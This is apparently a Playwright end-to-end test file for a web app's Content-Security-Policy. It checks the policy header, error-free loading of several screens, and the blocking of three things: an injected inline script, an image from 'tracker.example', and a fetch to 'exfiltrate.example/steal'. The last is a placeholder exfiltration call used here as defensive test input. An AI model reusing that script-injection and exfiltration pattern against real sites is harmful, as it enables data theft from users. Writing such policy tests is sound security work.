/**
 * The Content-Security-Policy (docs/decisions/0031) is the one the product defines, the browser enforces it (an
 * injected inline script, a foreign image and a foreign fetch are blocked and reported), and the login page and the
 * main screens work under it with no console error at all. Every other e2e file also fails on any violation
 * (csp-guard.ts), so the whole suite runs under the policy.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { CONTENT_SECURITY_POLICY } from '../../functions/src/lib/security-headers';
import { takeCspViolations } from './csp-guard';
import { adminToken, launchBrowser, loginToLayout, newPage, withScreenshot, type TestPage } from './helpers';

let browser: Browser;
let t: TestPage;
const consoleErrors: string[] = [];

/** Every console error and uncaught exception of the page (none is expected on these screens). */
function collectErrors(page: Page) {
  page.on('console', (m) => {
    if (m.type() === 'error') consoleErrors.push(`${page.url()}: ${m.text()}`);
  });
  page.on('pageerror', (e) => consoleErrors.push(`${page.url()}: ${e.message}`));
}

beforeAll(async () => {
  await adminToken();
  browser = await launchBrowser();
  t = await newPage(browser);
  collectErrors(t.page);
});
afterAll(async () => {
  await browser?.close();
});

/** Opens a path of the SPA and waits until its calls have settled. */
async function open(page: Page, path: string, ready: string) {
  await page.goto(path);
  await page.getByTestId(ready).first().waitFor({ timeout: 20_000 });
  await page.waitForLoadState('networkidle');
}

describe('content security policy', () => {
  it('sends the product policy with the SPA', async () => {
    const res = await t.page.goto('/login');
    expect(res?.status()).toBe(200);
    expect(res?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  });

  it('blocks and reports an inline script, a foreign image and a foreign fetch', () =>
    withScreenshot(t.page, '39-blocked', async () => {
      const { page } = t;
      await open(page, '/login', 'login-submit');
      takeCspViolations();
      const outcome = await page.evaluate(async () => {
        const script = document.createElement('script');
        script.textContent = 'window.__aedInlineRan = true;';
        document.head.append(script);
        const img = new Image();
        img.src = 'https://tracker.example/pixel.png';
        document.body.append(img);
        const fetched = await fetch('https://exfiltrate.example/steal').then(
          () => 'sent',
          () => 'blocked',
        );
        return { inlineRan: (window as unknown as { __aedInlineRan?: boolean }).__aedInlineRan === true, fetched };
      });
      expect(outcome).toEqual({ inlineRan: false, fetched: 'blocked' });
      let directives: string[] = [];
      await expect
        .poll(() => {
          directives = [...directives, ...takeCspViolations().map((v) => v.directive)];
          return ['script-src-elem', 'img-src', 'connect-src'].every((d) => directives.includes(d));
        }, { message: `violations reported: ${directives.join(', ')}` })
        .toBe(true);
      // What the test provoked is not an error of the product.
      consoleErrors.length = 0;
    }));

  it('shows the login page styled, with no console error', () =>
    withScreenshot(t.page, '39-login', async () => {
      const { page } = t;
      await open(page, '/login', 'login-submit');
      // Chakra's styles are emotion <style> elements: they apply under style-src (a button has its recipe's padding).
      const padding = await page.getByTestId('login-submit').evaluate((el) => getComputedStyle(el).paddingLeft);
      expect(parseFloat(padding)).toBeGreaterThan(0);
      expect(consoleErrors).toEqual([]);
    }));

  it('runs the main screens with no console error', () =>
    withScreenshot(t.page, '39-screens', async () => {
      const { page } = t;
      await loginToLayout(t);
      // The sidebar's token colour #304156 comes from an emotion rule.
      const sidebarBg = await page.getByTestId('sidebar').evaluate((el) => getComputedStyle(el.firstElementChild ?? el).backgroundColor);
      expect(sidebarBg).toBe('rgb(48, 65, 86)');
      for (const [path, ready] of [
        ['/system/user', 'user-add'],
        ['/system/dept', 'dept-page'],
        ['/system/notice', 'notice-page'],
        ['/product/device', 'device-list'],
        ['/user/profile', 'profile-page'],
      ]) {
        await open(page, path, ready);
      }
      expect(consoleErrors).toEqual([]);
    }));
});
